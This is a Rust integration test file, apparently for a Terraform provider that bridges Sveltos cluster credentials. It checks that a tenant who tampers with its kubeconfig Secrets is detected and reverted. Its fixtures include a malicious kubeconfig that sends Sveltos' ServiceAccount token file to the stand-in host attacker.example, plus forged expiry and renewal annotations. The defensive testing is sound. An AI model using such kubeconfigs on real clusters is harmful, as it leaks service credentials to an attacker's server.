//! Security review M2 end to end: a tenant who may patch Secrets in its own namespace (a Role allowing it, used
//! with `kubectl --as`) rewrites the bridge's Secret of a cluster whose credential an exec plugin minted. What
//! the bridge wrote is known from its private state, not from the Secret's annotations: a swapped kubeconfig with
//! a forged expiry shows in the next plan and apply writes the plugin's credential back (judged by client-go,
//! `kubectl config view --raw -o json`); a forged expiry alone makes no plugin run. And with `token_renewal`: the
//! renewal annotation copied onto the Secret of a cluster whose renewal is withheld hides no swapped kubeconfig.
#![cfg(unix)]

use std::path::Path;
use std::process::{Command, Output};

use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
use kube::api::{Api, ObjectMeta, PostParams};
use serde_json::{Value as Json, json};
use support::inventory::{
    Inv, Plugin, apply_ok, bridge, exec_status, flat, plan_clusters, state_clusters, text,
};
use support::{
    Cli, TestEnv, Tf, bin_dir, client_go_view, fixtures, unique_namespace, write_executable,
};
use tfsveltos::api::keys;
use tfsveltos::domain::sha256_hex;

/// Where the profiles' access provider says the cluster is (the plugin's credential goes there).
const SERVER: &str = "https://127.0.0.1:6443";

/// A kubeconfig that has client-go read Sveltos' own ServiceAccount token from a file and send it to the
/// tenant's server.
const TOKEN_FILE_KUBECONFIG: &str = "apiVersion: v1\nkind: Config\n\
    clusters: [{name: c, cluster: {server: 'https://attacker.example:6443'}}]\n\
    users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]\n\
    contexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n";

/// A user allowed to read and patch Secrets in `ns` and nothing else (a Role and its RoleBinding).
async fn tenant_of(inv: &Inv, ns: &str) -> String {
    let user = format!("tenant-of-{ns}");
    let meta = ObjectMeta {
        name: Some("patch-secrets".into()),
        namespace: Some(ns.into()),
        ..Default::default()
    };
    let role = Role {
        metadata: meta.clone(),
        rules: Some(vec![PolicyRule {
            api_groups: Some(vec![String::new()]),
            resources: Some(vec!["secrets".into()]),
            verbs: vec!["get".into(), "patch".into()],
            ..Default::default()
        }]),
    };
    let binding = RoleBinding {
        metadata: meta,
        role_ref: RoleRef {
            api_group: Some("rbac.authorization.k8s.io".into()),
            kind: "Role".into(),
            name: "patch-secrets".into(),
        },
        subjects: Some(vec![Subject {
            api_group: Some("rbac.authorization.k8s.io".into()),
            kind: "User".into(),
            name: user.clone(),
            ..Default::default()
        }]),
    };
    let pp = PostParams::default();
    Api::<Role>::namespaced(inv.client.clone(), ns)
        .create(&pp, &role)
        .await
        .expect("creating the tenant's Role");
    Api::<RoleBinding>::namespaced(inv.client.clone(), ns)
        .create(&pp, &binding)
        .await
        .expect("creating the tenant's RoleBinding");
    user
}

/// `kubectl --as <user> -n <ns> ARGS` on the main control plane.
fn as_tenant(user: &str, ns: &str, args: &[&str]) -> Output {
    Command::new(bin_dir().join("kubectl"))
        .arg("--kubeconfig")
        .arg(&TestEnv::get().kubeconfig)
        .args(["--as", user, "-n", ns])
        .args(args)
        .output()
        .expect("running kubectl")
}

/// The tenant merge-patches its bridged Secret of cluster `name` with `patch`, which must succeed; and is refused
/// what its Role does not grant (so the patch was made with the tenant's rights, not the admin's).
fn tenant_patches(user: &str, ns: &str, name: &str, patch: &Json) {
    tenant_patches_secret(user, ns, &format!("{name}-sveltos-kubeconfig"), patch);
}

/// [`tenant_patches`] of any Secret in `ns`.
fn tenant_patches_secret(user: &str, ns: &str, secret: &str, patch: &Json) {
    let out = as_tenant(
        user,
        ns,
        &[
            "patch",
            "secret",
            secret,
            "--type",
            "merge",
            "-p",
            &patch.to_string(),
        ],
    );
    assert!(out.status.success(), "the tenant's patch: {out:?}");
    let refused = as_tenant(user, ns, &["get", "sveltosclusters"]);
    assert!(
        !refused.status.success() && String::from_utf8_lossy(&refused.stderr).contains("forbidden"),
        "the tenant is not confined to its Role: {refused:?}"
    );
}

/// The bridge `ns` with `providers_file`, each of `providers` allowed in `ns` for [`SERVER`] only.
fn exec_bridge(ns: &str, providers_file: &Path, providers: &[&str]) -> String {
    let allowed: Vec<String> = providers
        .iter()
        .map(|p| format!("{p} = {{ namespaces = [\"{ns}\"], servers = [\"127.0.0.1:6443\"] }}"))
        .collect();
    bridge(
        ns,
        &[ns],
        &format!(
            "  credentials {{\n    exec_providers_file = \"{}\"\n    exec_providers = {{\n      {}\n    }}\n  }}",
            providers_file.display(),
            allowed.join("\n      ")
        ),
    )
}

/// A tenant swaps the exec-minted kubeconfig of its cluster for a `tokenFile` one and sets the expiry annotation
/// to 2099: the next plan shows the change (a credential minted at apply, `kubeconfig_sha256` unknown), apply
/// runs the plugin once and writes its credential back (client-go reads the plugin's token for the profile's
/// server, no file), the state records that kubeconfig's hash, and the following plan is empty.
#[tokio::test(flavor = "multi_thread")]
async fn a_swapped_exec_kubeconfig_with_a_forged_expiry_is_shown_and_written_back() {
    let inv = Inv::new().await;
    let ns = unique_namespace(&inv.client, "swap").await;
    let scratch = tempfile::tempdir().unwrap();
    let plugin = Plugin::write(scratch.path(), 3600, &[("tok", None)]);
    inv.profile(&ns, "t2", &[], exec_status("tok", SERVER, json!([])))
        .await;
    let tenant = tenant_of(&inv, &ns).await;
    let tf = inv.tf(
        &Cli::tofu(),
        &exec_bridge(&ns, &plugin.providers_file, &["tok"]),
    );
    apply_ok(&tf);
    assert_eq!(plugin.runs().len(), 1, "{:?}", plugin.runs());
    let key = format!("{ns}/t2");

    tenant_patches(
        &tenant,
        &ns,
        "t2",
        &json!({"stringData": {"kubeconfig": TOKEN_FILE_KUBECONFIG},
            "metadata": {"annotations": {keys::EXPIRES_ANNOTATION: "2099-01-01T00:00:00Z"}}}),
    );
    let swapped = inv.bridged_kubeconfig(&ns, "t2").await.unwrap();
    assert_eq!(swapped, TOKEN_FILE_KUBECONFIG.as_bytes());
    let (out, planned) = plan_clusters(&tf);
    assert!(
        planned[&key]["kubeconfig_sha256"].is_null()
            && out.contains("kubeconfig_sha256")
            && out.contains("(known after apply)"),
        "the swap is not in the plan:\n{out}"
    );
    assert_eq!(plugin.runs().len(), 1, "plan ran the plugin");
    apply_ok(&tf);
    assert_eq!(plugin.runs().len(), 2, "{:?}", plugin.runs());

    let written = inv.bridged_kubeconfig(&ns, "t2").await.unwrap();
    let view = client_go_view(scratch.path(), &written)
        .unwrap_or_else(|e| panic!("client-go cannot read it: {e}"));
    let user = &view["users"][0]["user"];
    let fields: Vec<&String> = user.as_object().unwrap().keys().collect();
    assert_eq!(fields, ["token"], "what client-go reads: {view}");
    assert!(
        user["token"].as_str().unwrap().starts_with("token-"),
        "{view}"
    );
    assert_eq!(view["clusters"][0]["cluster"]["server"], SERVER, "{view}");
    assert_eq!(
        state_clusters(&tf)[&key]["kubeconfig_sha256"],
        sha256_hex(&written),
        "the state does not record what the bridge wrote"
    );
    assert_eq!(tf.plan(), 0, "the plan after the rewrite");
    assert_eq!(plugin.runs().len(), 2, "the plugin ran again");
    tf.destroy();
}

/// An exec plugin that answers a token without an expiry (the bridge then writes no expiry annotation, so the
/// tenant's stays): its runs are logged to `runs.log` in `dir`; the returned providers file names it `noexp`
/// next to `plugin`'s providers.
fn add_plugin_without_expiry(dir: &Path, plugin: &Plugin) -> std::path::PathBuf {
    let script = dir.join("noexp.sh");
    let log = dir.join("noexp-runs.log");
    write_executable(
        &script,
        &format!(
            "#!/bin/sh\necho run >> '{}'\n\
             printf '%s' '{{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"noexp-token\"}}}}'\n",
            log.display()
        ),
    );
    let mut file: Json =
        serde_json::from_slice(&std::fs::read(&plugin.providers_file).unwrap()).unwrap();
    file["providers"].as_array_mut().unwrap().push(json!({"name": "noexp", "execConfig": {
        "apiVersion": "client.authentication.k8s.io/v1", "command": script.display().to_string()}}));
    std::fs::write(&plugin.providers_file, file.to_string()).unwrap();
    log
}

fn lines(path: &Path) -> usize {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .count()
}

/// A tenant sets the expiry annotation of its bridged Secrets in the past (the data untouched), for a credential
/// with an expiry and one without: no plan shows a change, no apply runs a plugin, and the state keeps the expiry
/// the plugin gave.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_expiry_alone_runs_no_plugin() {
    let inv = Inv::new().await;
    let ns = unique_namespace(&inv.client, "expiry").await;
    let scratch = tempfile::tempdir().unwrap();
    let plugin = Plugin::write(scratch.path(), 3600, &[("tok", None)]);
    let noexp_log = add_plugin_without_expiry(scratch.path(), &plugin);
    inv.profile(&ns, "timed", &[], exec_status("tok", SERVER, json!([])))
        .await;
    inv.profile(&ns, "untimed", &[], exec_status("noexp", SERVER, json!([])))
        .await;
    let tenant = tenant_of(&inv, &ns).await;
    let body = exec_bridge(&ns, &plugin.providers_file, &["tok", "noexp"]);
    let tf = inv.tf(&Cli::tofu(), &body);
    apply_ok(&tf);
    let runs = || (plugin.runs().len(), lines(&noexp_log));
    assert_eq!(runs(), (1, 1));
    let before = state_clusters(&tf);
    let expiry = before[&format!("{ns}/timed")]["credential_expires_at"].clone();
    assert!(expiry.is_string(), "{before:?}");

    let past =
        json!({"metadata": {"annotations": {keys::EXPIRES_ANNOTATION: "2000-01-01T00:00:00Z"}}});
    for name in ["timed", "untimed"] {
        tenant_patches(&tenant, &ns, name, &past);
    }
    assert_eq!(tf.plan(), 0, "a forged expiry shows as a change");
    for _ in 0..2 {
        apply_ok(&tf);
        assert_eq!(runs(), (1, 1), "a forged expiry made a plugin run");
    }
    let after = state_clusters(&tf);
    assert_eq!(
        after[&format!("{ns}/timed")]["credential_expires_at"],
        expiry
    );
    assert!(
        after[&format!("{ns}/untimed")]["credential_expires_at"].is_null(),
        "{after:?}"
    );
    tf.destroy();
}

/// A ServiceAccount token's shape (a JWT whose `sub` names a ServiceAccount; never checked against a server):
/// what Sveltos renews without `service_account`.
fn sa_token(tag: &str) -> String {
    use base64::Engine as _;
    let enc = |v: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v);
    let claims = json!({"sub": "system:serviceaccount:kube-system:sveltos", "jti": tag});
    format!(
        "{}.{}.{}",
        enc(br#"{"alg":"RS256"}"#),
        enc(claims.to_string().as_bytes()),
        enc(b"signature")
    )
}

/// A kubeconfig for [`SERVER`] with a ServiceAccount token, and `tls-server-name` when `tls_server_name` is set
/// (a connection a Sveltos renewal drops, so the bridge withholds renewal for it).
fn sa_kubeconfig(tag: &str, tls_server_name: Option<&str>) -> String {
    let tls = tls_server_name.map_or(String::new(), |n| format!(", tls-server-name: {n}"));
    format!(
        "apiVersion: v1\nkind: Config\n\
         clusters: [{{name: c, cluster: {{server: '{SERVER}'{tls}}}}}]\n\
         users: [{{name: u, user: {{token: '{}'}}}}]\n\
         contexts: [{{name: x, context: {{cluster: c, user: u}}}}]\ncurrent-context: x\n",
        sa_token(tag)
    )
}

/// With `token_renewal`, renewal is withheld for cluster `w` (its connection needs `tls-server-name`) and written
/// for `r`. The tenant copies `r`'s token-renewal annotation onto `w`'s Secret and swaps its kubeconfig for one
/// naming another server: the plan shows `w`'s `kubeconfig_sha256` changing (exit 2), apply writes the bridge's
/// kubeconfig back, and the plan after is empty. `r`'s kubeconfig rewritten the way Sveltos renews (a new token,
/// same server) is no change and is left in place.
#[tokio::test(flavor = "multi_thread")]
async fn a_renewal_annotation_copied_onto_a_withheld_cluster_hides_no_swap() {
    let inv = Inv::new().await;
    let ns = unique_namespace(&inv.client, "withheld").await;
    for (name, tls_server_name) in [("w", Some("api.internal")), ("r", None)] {
        let kubeconfig = sa_kubeconfig(name, tls_server_name);
        inv.profile_with_secret(&ns, name, &[], Json::Null, &kubeconfig)
            .await;
    }
    let tenant = tenant_of(&inv, &ns).await;
    let tf = inv.tf(
        &Cli::tofu(),
        &bridge(&ns, &[&ns], "  token_renewal {\n    interval = \"1h\"\n  }"),
    );
    apply_ok(&tf);
    for (name, written) in [("w", false), ("r", true)] {
        let sc = inv.sc(&ns, name).await.expect("SveltosCluster");
        let renewal = sc.spec.token_request_renewal_option;
        assert_eq!(renewal.is_some(), written, "renewal written for {name}");
    }
    let (wk, rk) = (format!("{ns}/w"), format!("{ns}/r"));
    let before = state_clusters(&tf);
    let bridges_w = inv.bridged_kubeconfig(&ns, "w").await.unwrap();

    // Sveltos renews r: a new token, same server and CA, in the Secret it was told to renew.
    let renewed = sa_kubeconfig("r-renewed", None);
    let r_secret = inv.get_secret(&ns, "r-sveltos-kubeconfig").await.unwrap();
    let annotation = r_secret.metadata.annotations.as_ref().unwrap()
        [tfsveltos::domain::TOKEN_RENEWAL_ANNOTATION]
        .clone();
    tenant_patches(
        &tenant,
        &ns,
        "r",
        &json!({"stringData": {"kubeconfig": renewed}}),
    );
    assert_eq!(tf.plan(), 0, "Sveltos' renewal of r shows as a change");

    // The tenant forges w's Secret: the renewal annotation as r's Secret carries it, another server.
    let forged = fixtures::kubeconfig_for("c", "https://attacker.example:6443", &sa_token("x"));
    tenant_patches(
        &tenant,
        &ns,
        "w",
        &json!({"stringData": {"kubeconfig": forged},
            "metadata": {"annotations": {tfsveltos::domain::TOKEN_RENEWAL_ANNOTATION: annotation}}}),
    );
    assert_eq!(tf.plan(), 2, "the forged Secret of w is not seen");
    let (out, planned) = plan_clusters(&tf);
    assert!(
        out.contains(&wk) && out.contains("kubeconfig_sha256"),
        "the plan does not name w's kubeconfig:\n{out}"
    );
    assert_eq!(planned[&rk], before[&rk], "r changes in the plan:\n{out}");
    apply_ok(&tf);
    assert_eq!(
        inv.bridged_kubeconfig(&ns, "w").await.unwrap(),
        bridges_w,
        "apply did not write w's kubeconfig back"
    );
    assert_eq!(
        inv.bridged_kubeconfig(&ns, "r").await.unwrap(),
        renewed.as_bytes(),
        "apply reverted Sveltos' renewal of r"
    );
    assert_eq!(state_clusters(&tf)[&wk], before[&wk]);
    assert_eq!(tf.plan(), 0, "the plan after the repair");
    tf.destroy();
}

/// `plan -detailed-exitcode` with the provider's debug log in `label.log`: its exit code, its output, and the log's
/// line on the plan made (how many kubeconfigs were checked ahead, and how many taken from the last apply's check).
fn logged_plan(tf: &mut Tf, label: &str) -> (Option<i32>, String, String) {
    let log = tf.dir().join(format!("{label}.log"));
    tf.env("TF_LOG_PROVIDER", "DEBUG");
    tf.env("TF_LOG_PATH", &log);
    let out = tf.run(&["plan", "-input=false", "-no-color", "-detailed-exitcode"]);
    let logged = std::fs::read_to_string(&log).expect("TF_LOG_PATH written");
    let line = logged
        .lines()
        .find(|l| l.contains("planned bridge"))
        .unwrap_or_else(|| panic!("the plan is not logged:\n{}", text(&out)))
        .to_string();
    (out.status.code(), text(&out), line)
}

/// A plan does not parse again a source kubeconfig the last apply checked and copied, when its bytes, the
/// kubeconfig policy and the provider's build are the same: the plan after apply takes both clusters' checks from
/// the private state and checks nothing ahead. Then a tenant who may patch its credential Secret swaps its
/// kubeconfig for a `tokenFile` one: the next plan checks it, keeps the cluster as it is and says why, naming the
/// cluster and the field; apply leaves its bridged Secret untouched, and once the tenant puts the bytes back the
/// plan takes the recorded check again.
#[tokio::test(flavor = "multi_thread")]
async fn a_source_kubeconfig_swapped_after_the_apply_is_checked_again() {
    let inv = Inv::new().await;
    let ns = unique_namespace(&inv.client, "src-swap").await;
    let kc = fixtures::unreachable_kubeconfig("t");
    for p in ["p1", "p2"] {
        inv.profile_with_secret(&ns, p, &[], Json::Null, &kc).await;
    }
    let user = tenant_of(&inv, &ns).await;
    let mut tf = inv.tf(&Cli::tofu(), &bridge(&ns, &[&ns], ""));
    apply_ok(&tf);
    let written = inv.secret_version(&ns, "p1-sveltos-kubeconfig").await;

    let (code, out, line) = logged_plan(&mut tf, "unchanged");
    assert_eq!(code, Some(0), "{out}");
    assert!(
        line.contains("recorded_checks=2") && line.contains("checked_ahead=0"),
        "the plan after apply parsed kubeconfigs again: {line}"
    );

    let swap = |bytes: &str| json!({"stringData": {"Config": bytes}});
    tenant_patches_secret(&user, &ns, "p1-src", &swap(TOKEN_FILE_KUBECONFIG));
    let (_, out, line) = logged_plan(&mut tf, "swapped");
    assert!(line.contains("recorded_checks=1"), "{line}\n{out}");
    let said = flat(&out);
    assert!(
        said.contains(&format!("{ns}/p1 (kept as it is)")) && said.contains("tokenFile"),
        "the swapped kubeconfig is not refused by name:\n{out}"
    );
    apply_ok(&tf);
    assert_eq!(
        inv.secret_version(&ns, "p1-sveltos-kubeconfig").await,
        written,
        "apply wrote the swapped cluster's Secret"
    );

    tenant_patches_secret(&user, &ns, "p1-src", &swap(&kc));
    let (_, out, line) = logged_plan(&mut tf, "restored");
    assert!(line.contains("recorded_checks=2"), "{line}\n{out}");
    assert!(!flat(&out).contains("tokenFile"), "{out}");
}
